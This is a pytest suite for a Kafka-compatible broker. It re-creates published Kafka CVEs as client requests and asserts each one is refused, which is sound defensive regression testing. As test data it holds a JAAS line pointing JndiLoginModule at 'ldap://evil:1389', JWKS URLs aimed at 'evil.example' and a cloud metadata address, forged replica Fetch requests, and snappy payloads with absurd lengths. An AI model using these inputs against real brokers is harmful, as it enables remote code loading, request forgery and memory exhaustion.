"""Kafka's published vulnerabilities, each as what a client tries and does not get."""

from __future__ import annotations

import ast
import re
import tracemalloc
from collections.abc import Callable
from itertools import product
from pathlib import Path
from typing import Any

import pytest
import snappy

from minibroker.broker.metadata_standalone import StandaloneMetadata
from minibroker.client.connection import Connection as ClientConnection
from minibroker.config import ConfigError
from minibroker.errors import Error
from minibroker.log.build import build_batch, pack_batch
from minibroker.log.compression import SNAPPY, SNAPPY_HEADER
from minibroker.log.memory_storage import MemoryStorage
from minibroker.log.message_sets import wrap_messages
from minibroker.log.records import Record
from minibroker.protocol.messages.alter_user_scram_credentials import AlterUserScramCredentialsRequest as Alter
from minibroker.protocol.messages.create_acls import CreateAclsRequest
from minibroker.protocol.messages.delete_acls import DeleteAclsRequest
from minibroker.protocol.messages.describe_acls import DescribeAclsRequest
from minibroker.protocol.messages.fetch import FetchRequest
from minibroker.protocol.messages.init_producer_id import InitProducerIdRequest
from minibroker.protocol.messages.produce import ProduceRequest
from minibroker.protocol.messages.sasl_authenticate import SaslAuthenticateRequest
from minibroker.replication.leader import LeaderState
from minibroker.schema.varint import uvarint
from minibroker.security import plain as plain_module
from minibroker.security.acls import (
    ALL,
    ALLOW,
    ANY,
    CLUSTER,
    CLUSTER_ACTION,
    CLUSTER_NAME,
    DENY,
    GROUP,
    LITERAL,
    PREFIXED,
    READ,
    TOPIC,
    TRANSACTIONAL_ID,
    WRITE,
)
from minibroker.security.principal import ANONYMOUS, Principal
from minibroker.security.scram import salted_password
from tests.broker.virtual_broker import VirtualBroker, virtual_broker
from tests.cluster.virtual import Lab, in_cluster
from tests.security.conversations import NONCE, client_final, client_first, plain
from tests.security.wire import LISTENERS, SETTINGS, Wire, asking_broker
from tests.server.running import FedTransport, produce

AUTHORIZED: dict[str, object] = {
    "authorizer.class.name": "org.apache.kafka.metadata.authorizer.StandardAuthorizer",
    "super.users": "User:admin",
}
ALICE, ADMIN = Principal("User", "alice"), Principal("User", "admin")
NEWEST = 3  # of the APIs of rules
MIB = 1 << 20
PREFIX = "listener.name.sasl_plaintext"


@pytest.mark.parametrize(
    ("mechanism", "token"),
    [
        ("PLAIN", plain("alice", "alice-secret", "bob")),
        ("SCRAM-SHA-256", client_first("alice", "bob")),
        ("SCRAM-SHA-512", client_first("alice", "bob")),
    ],
)
def test_cve_2017_12610_nobody_acts_as_another(mechanism: str, token: bytes) -> None:
    with asking_broker() as broker:
        wire = Wire(broker)
        answer = wire.log_in(mechanism, token)
        assert answer.error_code == Error.SASL_AUTHENTICATION_FAILED
        assert wire.is_closed


def test_cve_2021_38153_secrets_are_compared_in_constant_time() -> None:
    """How long a comparison takes cannot be tested; that none of a secret is made by == can."""
    for name in ("plain.py", "scram.py", "users.py"):  # tokens are found by digests: test_token_secrets.py
        text = Path(plain_module.__file__).with_name(name).read_text("utf-8")
        assert "hmac.compare_digest(" in text
        compared = [ast.unparse(node) for node in ast.walk(ast.parse(text)) if isinstance(node, ast.Compare)]
        secret = re.compile(r"password|stored_key|server_key|proof\b|hmac|digest\(|\bright\b|\bgiven\b|\bwanted\b")
        equal = [each for each in compared if " == " in each or " != " in each]
        assert not [each for each in equal if secret.search(each) and "len(" not in each]


def test_cve_2022_34917_who_has_not_logged_in_makes_nobody_keep_memory() -> None:
    with asking_broker() as broker:
        wires = [Wire(broker) for _ in range(20)]
        for wire in wires:
            wire.send((104_857_600).to_bytes(4, "big") + b"x" * 1000)
        assert all(wire.is_closed for wire in wires)
        assert sum(server.held_bytes for server in broker.node.servers) == 0
        fed: FedTransport = wires[0].transport
        assert fed.connection.frame_bytes_max == 524_288


MODULES = (
    "com.sun.security.auth.module.JndiLoginModule",  # CVE-2023-25194
    "com.sun.security.auth.module.LdapLoginModule",  # CVE-2025-27818
    "org.example.Anything",
)


@pytest.mark.parametrize("module", MODULES)
def test_cve_2023_25194_and_2025_27818_no_class_of_a_jaas_line_is_run(module: str) -> None:
    line = f'{module} required user.provider.url="ldap://evil:1389" useFirstPass="true" serviceName="x";'
    with (
        pytest.raises(ConfigError, match="the login module of PLAIN is"),
        virtual_broker({**SETTINGS, f"{PREFIX}.plain.sasl.jaas.config": line}),
    ):
        pass


CHANGES: list[tuple[Callable[[str], dict[str, str]], bool, bool]] = [
    (lambda nonce: {}, True, True),
    (lambda nonce: {"nonce": f"{NONCE}{nonce}"}, False, True),  # librdkafka before 2.6.1, which Kafka takes before 4.0
    (lambda nonce: {"nonce": f"{nonce}x"}, False, False),
    (lambda nonce: {"nonce": NONCE}, False, False),
    (lambda nonce: {"nonce": nonce.removeprefix(NONCE)}, False, False),
    (lambda nonce: {"binding": "y,,"}, False, False),
]


@pytest.mark.parametrize("as_version", [None, "3.9.2"])
@pytest.mark.parametrize(("change", "is_good", "was_good"), CHANGES)
def test_cve_2024_56128_the_nonce_of_the_proof_is_the_one_of_this_login(
    change: Callable[[str], dict[str, str]], is_good: bool, was_good: bool, as_version: str | None
) -> None:
    is_good = was_good if as_version else is_good
    with asking_broker(as_version) as broker:
        salted = salted_password("sha256", "alice-secret", b"salt", 4096)
        new = Alter.ScramCredentialUpsertion(
            name="alice", mechanism=1, iterations=4096, salt=b"salt", salted_password=salted
        )
        assert broker.ask(Alter(deletions=[], upsertions=[new]), 0).results[0].error_code == 0
        wire, first = Wire(broker), client_first()
        challenge = bytes(wire.log_in("SCRAM-SHA-256", first).auth_bytes)
        nonce = challenge.decode().split(",")[0].removeprefix("r=")
        # The proof is right for what it says; only what it says is not of this login.
        proof = client_final("SCRAM-SHA-256", first, challenge, "alice-secret", **change(nonce))
        answer = wire.ask(SaslAuthenticateRequest(auth_bytes=proof), 2)
        assert answer.error_code == (Error.NONE if is_good else Error.SASL_AUTHENTICATION_FAILED)


@pytest.mark.parametrize("url", ["https://evil.example/jwks", "http://169.254.169.254/", "ftp://x/y", "file://host/x"])
def test_cve_2025_27817_no_address_is_ever_fetched(url: str) -> None:
    settings = {
        **LISTENERS,
        "sasl.enabled.mechanisms": "OAUTHBEARER",
        "sasl.oauthbearer.jwks.endpoint.url": url,
        "sasl.oauthbearer.allow.unverified.audience": "true",
        "sasl.oauthbearer.allow.unverified.issuer": "true",
    }
    with pytest.raises(ConfigError, match=r"nothing is fetched|cannot be read"), virtual_broker(settings):
        pass


def test_no_token_endpoint_is_asked_for_anything() -> None:
    """What the settings of a broker's own login say is not used, for it logs in nowhere."""
    from minibroker.config.ignored import reason_of

    for name in ("sasl.oauthbearer.token.endpoint.url", "sasl.login.callback.handler.class"):
        assert reason_of(name).startswith("no broker logs in anywhere")


# Access rules

RuleRow = tuple[int, int, str, str, str, int, int]  # as the fields of Rule
AnyRule = tuple[int, int, None, None, None, int, int]
EVERY_RULE: AnyRule = (ANY, ANY, None, None, None, ANY, ANY)


def allow(broker: VirtualBroker, *rules: RuleRow) -> None:
    broker.connection.principal = ADMIN
    answer = broker.ask(
        CreateAclsRequest(creations=[CreateAclsRequest.AclCreation(**named(each)) for each in rules]), 3
    )
    assert [each.error_code for each in answer.results] == [Error.NONE] * len(rules)


def named(rule: RuleRow | AnyRule, end: str = "") -> dict[str, Any]:
    """Return a rule as the fields of a request; end: of their names, in filters."""
    kind, pattern, name, principal, host, operation, permission = rule
    return {
        f"resource_type{end}": kind,
        f"resource_name{end}": name,
        ("pattern_type" if end else "resource_pattern_type") + end: pattern,
        f"principal{end}": principal,
        f"host{end}": host,
        "operation": operation,
        "permission_type": permission,
    }


def allowing(kind: int, operation: int, name: str) -> RuleRow:
    return (kind, LITERAL, name, str(ALICE), "*", operation, ALLOW)


# CVE-2018-1288: who says in a Fetch that it is a replica


def as_replica(replica_id: int, version: int, offset: int, topic_id: bytes, epoch: int) -> FetchRequest:
    Topic = FetchRequest.FetchTopic
    row = Topic.FetchPartition(partition=0, fetch_offset=offset, partition_max_bytes=MIB)
    topic = Topic(topic_id=topic_id, partitions=[row]) if version >= 13 else Topic(topic="orders", partitions=[row])
    said: dict[str, Any] = {"replica_id": replica_id}
    if version >= 15:
        said = {"replica_state": FetchRequest.ReplicaState(replica_id=replica_id)}
    return FetchRequest(max_wait_ms=0, min_bytes=1, max_bytes=MIB, topics=[topic], session_epoch=epoch, **said)


# Nobody is asked; rules of its own for what a client wants; those of a broker; those of a consumer.
NOBODY: RuleRow = (CLUSTER, LITERAL, CLUSTER_NAME, "User:nobody", "*", CLUSTER_ACTION, ALLOW)
RULES: dict[str, tuple[RuleRow, ...] | None] = {
    "no authorizer": None,
    "denied": (NOBODY, (TOPIC, LITERAL, "orders", str(ANONYMOUS), "*", ALL, DENY)),
    "as a broker": (
        (CLUSTER, LITERAL, CLUSTER_NAME, str(ANONYMOUS), "*", CLUSTER_ACTION, ALLOW),
        (TOPIC, LITERAL, "orders", str(ANONYMOUS), "*", READ, DENY),
    ),
    "as a consumer": (NOBODY, (TOPIC, LITERAL, "orders", str(ANONYMOUS), "*", READ, ALLOW)),
}


@pytest.mark.parametrize("rules", RULES)
def test_cve_2018_1288_no_client_is_taken_for_a_replica(rules: str) -> None:
    """Followers lack a record that the leader has, and a client says that it is one of them, and has it."""
    made = RULES[rules]
    settings = {"authorizer.class.name": str(AUTHORIZED["authorizer.class.name"])}
    settings["allow.everyone.if.no.acl.found"] = "true"  # until there are rules
    code = Error.NOT_LEADER_OR_FOLLOWER if rules in ("no authorizer", "as a broker") else REFUSED

    async def main(lab: Lab) -> None:
        cluster = lab.cluster
        cluster.create_topic("orders", 1, 3)
        await cluster.waits.in_sync()
        assert await lab.send(b"committed", topic="orders") == [0]
        await lab.world.clock.sleep(2000)
        for other in (2, 3):
            cluster.links.cut(1, other)
        assert await lab.send(b"not committed", acks=1, topic="orders") == [1]
        leader = cluster.replica("orders", 0, 1)
        assert leader is not None
        assert isinstance(leader.role, LeaderState)
        host, _, port = cluster.nodes[1].bootstrap_servers.rpartition(":")
        async with await ClientConnection.open(host, int(port), clock=lab.world.clock) as client:
            if made is not None:
                creations = [CreateAclsRequest.AclCreation(**named(rule)) for rule in made]
                answer = await client.call(CreateAclsRequest(creations=creations), NEWEST)
                assert {each.error_code for each in answer.results} == {Error.NONE}
                await lab.world.clock.sleep(100)
            before = lab.ends("orders"), leader.role.in_sync, told(leader.role)
            assert before[0][1] == (2, 1)
            for version, replica_id, offset, epoch in product(VERSIONS, (2, 3, 1, 77), (1, 2), (-1, 0)):
                asked = as_replica(replica_id, version, offset, leader.topic_id, epoch)
                answer = await client.call(asked, version)
                (row,) = answer.responses[0].partitions
                assert (row.error_code, row.high_watermark, row.records or b"") == (code, -1, b""), (version, epoch)
        assert (lab.ends("orders"), leader.role.in_sync, told(leader.role)) == before
        cluster.links.heal()
        await cluster.waits.in_sync()

    in_cluster(main, settings=None if made is None else settings)


REFUSED = Error.TOPIC_AUTHORIZATION_FAILED
VERSIONS = (4, 11, 12, 13, 15, 17)  # by names, with epochs, by ids, with the state of a replica


def told(leader: LeaderState) -> list[tuple[int, int, int | None]]:
    """Return what a leader thinks that its followers have."""
    return [(each.broker_id, each.end_offset, each.broker_epoch) for each in leader.followers.values()]


# CVE-2018-17196: what a batch says of itself is what counts


def written(*, transactional: bool = False, idempotent: bool = False) -> bytes:
    more: dict[str, Any] = {}
    if transactional or idempotent:
        more = {"producer_id": 7, "producer_epoch": 0, "base_sequence": 0, "transactional": transactional}
    return build_batch(2, [Record(None, b"v", (), 1_700_000_000_000)], **more)


PLAIN, OF_TRANSACTION, IDEMPOTENT = written(), written(transactional=True), written(idempotent=True)
OTHER = Error.TRANSACTIONAL_ID_AUTHORIZATION_FAILED
# What goes to orders-0 and orders-1, the transactional id, and what is answered.
PRODUCED: dict[str, tuple[bytes, bytes, str | None, tuple[Error, Error]]] = {
    "a transaction": (OF_TRANSACTION, OF_TRANSACTION, "pay", (OTHER, OTHER)),
    "the last is plain": (OF_TRANSACTION, PLAIN, "pay", (OTHER, OTHER)),
    "the first is plain": (PLAIN, OF_TRANSACTION, "pay", (OTHER, OTHER)),
    "the last is idempotent": (OF_TRANSACTION, IDEMPOTENT, "pay", (OTHER, OTHER)),
    "the first is idempotent": (IDEMPOTENT, OF_TRANSACTION, "pay", (OTHER, OTHER)),
    "no transactional id": (PLAIN, OF_TRANSACTION, None, (OTHER, OTHER)),
    "an empty transactional id": (PLAIN, OF_TRANSACTION, "", (OTHER, OTHER)),
    "behind a plain one": (PLAIN + OF_TRANSACTION, PLAIN, "pay", (Error.INVALID_RECORD, Error.NONE)),
    "before a plain one": (OF_TRANSACTION + PLAIN, PLAIN, "pay", (OTHER, OTHER)),
    "only the id": (PLAIN, IDEMPOTENT, "pay", (Error.NONE, Error.NONE)),
}


@pytest.mark.parametrize("acks", [1, 0])
@pytest.mark.parametrize("version", [0, 2, 3, 9, 12])
@pytest.mark.parametrize("what", PRODUCED)
def test_cve_2018_17196_batches_of_a_transaction_are_taken_from_who_may_use_its_id(
    what: str, version: int, acks: int
) -> None:
    *both, name, errors = PRODUCED[what]
    with virtual_broker(AUTHORIZED) as broker:
        broker.run(broker.node.create_topic, "orders", 2)
        allow(broker, allowing(TOPIC, WRITE, "orders"), allowing(TRANSACTIONAL_ID, WRITE, "other"))
        rows = [ProduceRequest.TopicProduceData.PartitionProduceData(index=n, records=both[n]) for n in (0, 1)]
        topics = [ProduceRequest.TopicProduceData(name="orders", partition_data=rows)]
        known: dict[str, Any] = {"transactional_id": name} if version >= 3 else {}
        alice = broker.connect().connection
        alice.principal = ALICE
        asked = ProduceRequest(acks=acks, timeout_ms=1000, topic_data=topics, **known)
        answer = broker.ask(asked, version, by=alice)
        if acks:
            heard = {row.index: row.error_code for each in answer.responses for row in each.partition_responses}
            assert heard == dict(enumerate(errors))
        else:
            assert answer is None
            assert alice.is_closing == any(errors)
        ends = tuple(broker.node.replicas["orders", n].log.log_end_offset for n in (0, 1))
        assert ends == tuple(int(error == Error.NONE) for error in errors)


@pytest.mark.parametrize("release", ["3.9.2", "4.4.0"])
def test_cve_2018_17196_who_may_write_nowhere_gets_no_producer_id_and_writes_with_none(release: str) -> None:
    """Since 3.0 an idempotent batch asks for nothing but to write to its topic, as its id does to write anywhere."""
    with virtual_broker(AUTHORIZED, as_version=release) as broker:
        broker.run(broker.node.create_topic, "orders", 1)
        alice = broker.connect().connection
        alice.principal = ALICE

        def answers() -> tuple[int, int]:
            row = ProduceRequest.TopicProduceData.PartitionProduceData(index=0, records=IDEMPOTENT)
            topics = [ProduceRequest.TopicProduceData(name="orders", partition_data=[row])]
            done = broker.ask(ProduceRequest(acks=1, timeout_ms=1000, topic_data=topics), 9, by=alice)
            made = broker.ask(InitProducerIdRequest(transactional_id=None, transaction_timeout_ms=1000), 4, by=alice)
            return made.error_code, done.responses[0].partition_responses[0].error_code

        assert answers() == (Error.CLUSTER_AUTHORIZATION_FAILED, REFUSED)
        allow(broker, allowing(TOPIC, READ, "orders"), allowing(TRANSACTIONAL_ID, WRITE, "pay"))
        assert answers() == (Error.CLUSTER_AUTHORIZATION_FAILED, REFUSED)
        allow(broker, allowing(TOPIC, WRITE, "orders"))
        assert answers() == (Error.NONE, Error.NONE)


# CVE-2023-34455: lengths that snappy data says of itself

ABSURD = (0x0100_0000, 0x4000_0000, 0x7FFF_FFFF, 0x8000_0000, 0xFFFF_FFFF)  # the first is within every limit
GOOD_CHUNK = b"\1\0a"
SNAPPED: dict[str, bytes] = {
    **{f"chunk of {size:#x}": SNAPPY_HEADER + size.to_bytes(4, "big") + GOOD_CHUNK for size in ABSURD},
    **{
        f"{form} of {size:#x} unpacked": head + uvarint(size) + b"\0a"
        for size in ABSURD
        for form, head in (("raw", b""), ("chunk", SNAPPY_HEADER + len(uvarint(size) + b"\0a").to_bytes(4, "big")))
    },
    "second chunk": SNAPPY_HEADER + len(GOOD_CHUNK).to_bytes(4, "big") + GOOD_CHUNK + b"\x7f\xff\xff\xff",
    "more than 32 bits": uvarint(1 << 34) + b"\0a",
    "no end of the size": SNAPPY_HEADER + (9).to_bytes(4, "big") + b"\xff" * 9,
    "another stream": SNAPPY_HEADER + SNAPPY_HEADER + (0x7FFF_FFFF).to_bytes(4, "big"),
}


def snapped(magic: int, payload: bytes) -> bytes:
    """Return a record batch, or a message around others, whose records are this."""
    if magic < 2:
        return wrap_messages(magic, payload, SNAPPY, 1_700_000_000_000, 0)
    return pack_batch(0, -1, (SNAPPY, 0, 1_700_000_000_000, 1_700_000_000_000, -1, -1, -1, 1), payload)


def address_space_bytes() -> int:
    """Return the most that this process has ever asked Linux for, whether it was used or not."""
    text = Path("/proc/self/status").read_text("ascii")
    return 1024 * int(text.partition("VmPeak:")[2].split()[0])


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads Linux's account of memory")
@pytest.mark.parametrize(("magic", "version"), [(0, 0), (0, 2), (1, 2), (2, 3), (2, 9), (2, 12)])
def test_cve_2023_34455_lengths_of_snappy_get_no_memory(
    magic: int, version: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    unpacked: list[bytes] = []
    uncompress = snappy.uncompress

    def noted(block: memoryview) -> Any:
        unpacked.append(bytes(block))
        return uncompress(block)

    with virtual_broker() as broker:
        broker.run(broker.node.create_topic, "orders", 1)
        send(broker, snapped(magic, snappy.compress(b"imports what it needs")), version)
        monkeypatch.setattr(snappy, "uncompress", noted)
        before_bytes = address_space_bytes()
        for what, payload in SNAPPED.items():
            tracemalloc.start()
            error = send(broker, snapped(magic, payload), version)
            used_bytes = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
            # What Kafka answers where a codec fails; the other is of more than may be unpacked at all.
            assert error in (Error.UNKNOWN_SERVER_ERROR, Error.MESSAGE_TOO_LARGE), what
            assert used_bytes < MIB, what
        assert set(unpacked) == {GOOD_CHUNK}, "what is absurd does not come to the codec, whose memory is its own"
        assert address_space_bytes() - before_bytes < 256 * MIB
        assert broker.node.replicas["orders", 0].log.log_end_offset == 0
        assert send(broker, written(), 9) == Error.NONE


def send(broker: VirtualBroker, records: bytes, version: int) -> int:
    answer = broker.ask(produce("orders", records), version)
    found: int = answer.responses[0].partition_responses[0].error_code
    return found


# CVE-2024-27309: one rule of several goes

TOGETHER: tuple[RuleRow, ...] = (
    *(
        (TOPIC, pattern, "orders", who, host, operation, permission)
        for pattern in (LITERAL, PREFIXED)
        for who in ("User:alice", "User:bob", "User:*")
        for host in ("*", "10.0.0.1")
        for operation, permission in ((READ, ALLOW), (WRITE, ALLOW))
    ),
    (TOPIC, LITERAL, "orders", "User:alice", "*", WRITE, DENY),
    (TOPIC, LITERAL, "orders", "User:alice", "10.0.0.1", WRITE, DENY),
    (TOPIC, PREFIXED, "orders", "User:bob", "*", READ, DENY),
    (TOPIC, LITERAL, "*", "User:alice", "*", READ, ALLOW),
    (GROUP, LITERAL, "orders", "User:alice", "*", READ, ALLOW),
)


def rules_there(broker: VirtualBroker) -> list[RuleRow]:
    """Return the rules as they are described, and see that others are not gone by."""
    broker.connection.principal = ADMIN
    found = broker.ask(DescribeAclsRequest(**named(EVERY_RULE, "_filter")), NEWEST)
    rows = sorted(
        (of.resource_type, of.pattern_type, of.resource_name, by.principal, by.host, by.operation, by.permission_type)
        for of in found.resources
        for by in of.acls
    )
    authorizer = broker.node.authorizer
    assert authorizer is not None
    assert rows == sorted(map(tuple, authorizer.acls))
    for who, host, operation, kind, name in product(
        ("User:alice", "User:bob", "User:carl"),
        ("10.0.0.1", "::1"),
        (READ, WRITE),
        (TOPIC, GROUP),
        ("orders", "orders2"),
    ):
        speaking = {
            rule[6]
            for rule in rows
            if rule[0] == kind and (rule[2] in (name, "*") or (rule[1] == PREFIXED and name.startswith(rule[2])))
            if rule[3] in (who, "User:*") and rule[4] in (host, "*") and rule[5] == operation
        }
        assert authorizer.may(who, host, operation, kind, name) == (speaking == {ALLOW})
    return rows


@pytest.mark.parametrize("gone", TOGETHER, ids=str)
def test_cve_2024_27309_who_removes_one_rule_removes_no_other(gone: RuleRow) -> None:
    """Also for the next broker, that reads of it in the log, and the one after, that reads a snapshot only."""
    left = sorted(set(TOGETHER) - {gone})
    storage = MemoryStorage(lambda: 0)
    with virtual_broker(AUTHORIZED, storage=storage) as broker:
        allow(broker, *TOGETHER)
        assert rules_there(broker) == sorted(TOGETHER)
        request = DeleteAclsRequest(filters=[DeleteAclsRequest.DeleteAclsFilter(**named(gone, "_filter"))])
        removed = broker.ask(request, NEWEST).filter_results[0].matching_acls
        assert len(removed) == 1
        assert rules_there(broker) == left
    with virtual_broker(AUTHORIZED, storage=storage) as broker:
        assert rules_there(broker) == left
        assert isinstance(broker.node.metadata, StandaloneMetadata)
        log = broker.node.metadata.log
        log.write_snapshot(now_ms=broker.now_ms())
        log.log.roll()
        log.log.advance_log_start(log.log_end_offset)
    with virtual_broker(AUTHORIZED, storage=storage) as broker:
        assert rules_there(broker) == left
